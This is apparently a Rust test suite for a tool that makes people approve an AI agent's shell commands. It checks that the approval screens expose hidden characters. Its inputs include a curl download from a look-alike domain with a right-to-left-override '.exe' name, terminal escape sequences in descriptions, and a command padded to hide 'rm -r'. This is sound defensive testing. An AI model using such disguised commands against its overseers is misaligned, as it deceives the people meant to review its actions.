//! What a person reads is what would run: nothing hidden, nothing cut off.

use serde_json::{Value, json};

use crate::caller::{Caller, add_here};
use crate::support::{Done, Home};
use crate::tty::Tty;

/// Text that reads from right to left, a space without width, and a letter that
/// passes for another.
const TRICK: &str = "curl -fsSLO https://ex\u{430}mple.dev/\u{202e}gpj.exe\u{200b}";
const SHOWN: &str = "curl -fsSLO https://ex⟦U+0430⟧mple.dev/⟦U+202E⟧gpj.exe⟦U+200B⟧";

/// Characters that no terminal may get from us.
const RAW: [char; 6] = [
    '\u{430}', '\u{202e}', '\u{200b}', '\u{7}', '\u{9b}', '\u{2066}',
];

/// A request of an agent's.
fn ask(home: &Home, command: &str, description: &str) -> Value {
    let coder = Caller::owner(home).bearing(&add_here(home, "coder", "agent"));
    let body = json!({ "command": command, "description": description });
    coder.post("/commands", &body).expect(202)
}

#[track_caller]
fn assert_safe(text: &str) {
    let odd = |c: &char| RAW.contains(c) || c.is_control() && *c != '\n';
    let found: Vec<char> = text.chars().filter(odd).collect();
    assert_eq!(found, [' '; 0], "{text}");
}

fn approval(home: &Home) -> Value {
    let done = home.call(&["inbox", "--json"]);
    let list: Value = serde_json::from_str(&done.out).unwrap();
    assert_eq!(list["approvals"].as_array().unwrap().len(), 1, "{list}");
    list["approvals"][0].clone()
}

/// A card at a terminal, from its first line to the letters below it, and how
/// often it had to be turned.
fn card(home: &Home, id: &str) -> (String, usize) {
    let mut tty = Tty::start(home.weighlock(&["approve", id]));
    let mut turned = 0;
    loop {
        tty.expect_any(&["Space goes on", "[q] quit"]);
        if tty.screen().contains("[q] quit") {
            break;
        }
        let letters = ["[o]", "[w]", "[e]", "[r]"].map(|letter| tty.screen().contains(letter));
        assert_eq!(letters, [false; 4], "before its end was seen");
        turned += 1;
        tty.send(" ");
    }
    let screen = tty.screen();
    tty.expect("> ");
    tty.press("q");
    assert_eq!(tty.end(), Some(0));
    // Our own line at the end of a page, which is wiped.
    let shown = screen
        .split("\r\u{1b}[K")
        .map(|page| match page.rfind("\n  — ") {
            Some(end) => &page[..=end],
            None => page,
        });
    (shown.collect(), turned)
}

#[test]
fn what_is_hidden_is_shown_and_counted() {
    let home = Home::strict();
    let _server = home.serve(&[]);
    let claim = "List\u{1b}[2J the \u{2066}pictures\u{7}";
    let run = ask(&home, TRICK, claim);
    let asked = approval(&home);
    assert_eq!(
        (&asked["command"], &asked["claim"]),
        (&json!(TRICK), &json!(claim)),
        "as it is"
    );
    assert_eq!(asked["risk"], "high");
    let reasons = asked["reasons"].as_array().unwrap();
    let hidden = reasons
        .iter()
        .find(|reason| reason["code"] == "hidden_characters");
    let hidden = hidden.unwrap_or_else(|| panic!("{asked}"));
    assert_eq!(
        hidden["text"],
        "contains hidden or look-alike characters (3)"
    );

    let id = asked["short_id"].as_str().unwrap();
    let (card, _) = card(&home, id);
    let short = run["short_id"].as_str().unwrap();
    let Done { out: inbox, .. } = home.call(&["inbox"]);
    let Done { out: runs, .. } = home.call(&["runs"]);
    let Done { out: show, .. } = home.call(&["show", short]);
    for (name, text) in [
        ("approve", &card),
        ("inbox", &inbox),
        ("runs", &runs),
        ("show", &show),
    ] {
        assert_safe(text);
        assert!(text.contains("ex⟦U+0430⟧mple.dev/⟦U+2"), "{name}: {text}");
    }
    // The whole of it; a terminal breaks its lines.
    let one_line: String = card.lines().map(str::trim).collect();
    let shown: String = SHOWN.split(' ').collect();
    assert!(one_line.replace(' ', "").contains(&shown), "{card}");
    assert!(
        card.contains("contains hidden or look-alike characters (3)"),
        "{card}"
    );
    assert!(
        card.contains("“List⟦U+001B⟧[2J the ⟦U+2066⟧pictures⟦U+0007⟧”"),
        "{card}"
    );
    let done = home.call(&["runs", "--json"]);
    assert!(
        done.out.contains("\u{202e}"),
        "programs get it as it is: {}",
        done.out
    );
}

/// Characters that nobody would see for what they are: invisible ones, private
/// ones, and some that pass for a letter or for what a shell reads.
const LOOK_ALIKES: &str = "\u{1D173}\u{FFF0}\u{E000}\u{10FFFD}\u{FF52}\u{1D5CB}\u{261}\u{2215}\
    \u{2044}\u{FF1B}\u{17F}\u{131}\u{3BF}\u{4CF}\u{29F8}\u{FF0F}\u{FF5C}\u{37E}\u{2024}\u{2010}\
    \u{2800}\u{3164}\u{180E}\u{FE0F}\u{E0041}\u{FFFC}\u{13A1}\u{1D7D8}\u{212A}\u{338}\u{20DD}";

#[test]
fn look_alikes_are_shown_by_explain_and_in_the_question() {
    let home = Home::strict();
    let _server = home.serve(&[]);
    let name: String = LOOK_ALIKES.chars().flat_map(|c| ['x', c]).collect();
    let command = format!(
        "touch {name} е{} сос",
        "\u{301}\u{302}\u{303}\u{304}".repeat(9)
    );
    ask(&home, &command, "Make it");
    let asked = approval(&home);
    let id = asked["short_id"].as_str().unwrap();
    let (card, _) = card(&home, id);
    let Done { out: inbox, .. } = home.call(&["inbox"]);
    let Done { out: explained, .. } = home.call(&["explain", &command]);
    for (from, text) in [
        ("approve", &card),
        ("inbox", &inbox),
        ("explain", &explained),
    ] {
        let raw: Vec<char> = { text.chars() }
            .filter(|&c| LOOK_ALIKES.contains(c) || matches!(c, 'с' | 'о' | '\u{303}' | '\u{304}'))
            .collect();
        assert_eq!(raw, [' '; 0], "{from}: {text}");
    }
    for c in LOOK_ALIKES.chars() {
        let code = format!("⟦U+{:04X}⟧", u32::from(c));
        assert!(
            card.replace(['\n', ' '], "").contains(&code),
            "{code}: {card}"
        );
    }

    // What is plainly what it seems stays.
    let plain = "touch Größe привет 日本語 🎉";
    let Done { out, .. } = home.call(&["explain", plain]);
    for word in plain.split(' ') {
        assert!(out.contains(word), "{out}");
    }
}

#[test]
fn words_of_a_person_are_made_safe_too() {
    let home = Home::strict();
    let _server = home.serve(&[]);
    let run = ask(&home, "touch x", "Make x");
    let why = "Not\u{1b}]0;here\u{7}\u{202e}";
    let id = approval(&home)["short_id"].as_str().unwrap().to_owned();
    assert_eq!(home.call(&["reject", &id, "-m", why]).code, Some(0));
    let short = run["short_id"].as_str().unwrap();
    for verb in [
        &["show", short][..],
        &["runs"],
        &["inbox", "--all"],
        &["audit", "log"],
    ] {
        let done = home.call(verb);
        assert_eq!(done.code, Some(0), "{done:?}");
        assert_safe(&done.out);
        assert_safe(&done.err);
    }
    let told = home.call(&["show", short]).out;
    assert!(
        told.contains("‘Not⟦U+001B⟧]0;here⟦U+0007⟧⟦U+202E⟧’"),
        "{told}"
    );
}

#[test]
fn a_long_command_is_shown_whole() {
    for (name, filler) in [
        ("words", "x".repeat(16 * 1024)),
        ("spaces", " ".repeat(16 * 1024)),
        ("lines", "\n".repeat(1000)),
    ] {
        let home = Home::strict();
        let _server = home.serve(&[]);
        let start = if name == "lines" { "ls" } else { "echo " };
        let command = format!("{start}{filler}; rm -r gone-at-the-end").replace("\n;", "\n");
        ask(&home, &command, "Say x");
        let asked = approval(&home);
        assert_eq!(asked["command"], json!(command), "{name}");
        assert_eq!(asked["summary"], "Deletes gone-at-the-end", "{name}");
        let (card, turned) = card(&home, asked["short_id"].as_str().unwrap());
        assert!(turned > 2, "{name}: {turned}");
        assert_safe(&card);
        // Under the heading, and before the reasons.
        let text = card.split_once("\n  $ ").unwrap().1;
        let text = text.split_once("\nWhy ").unwrap().0;
        let marks = |c: &char| !matches!(c, '\n' | ' ');
        let shown: String = text.chars().filter(marks).collect();
        let expected: String = command.chars().filter(marks).collect();
        assert!(
            shown == expected,
            "{name}: {} and {}",
            shown.len(),
            expected.len()
        );
        if name == "lines" {
            assert!(
                text.lines().count() > 1000,
                "{name}: {}",
                text.lines().count()
            );
        } else {
            assert!(text.len() > 16 * 1024, "{name}: {}", text.len());
        }
    }
}
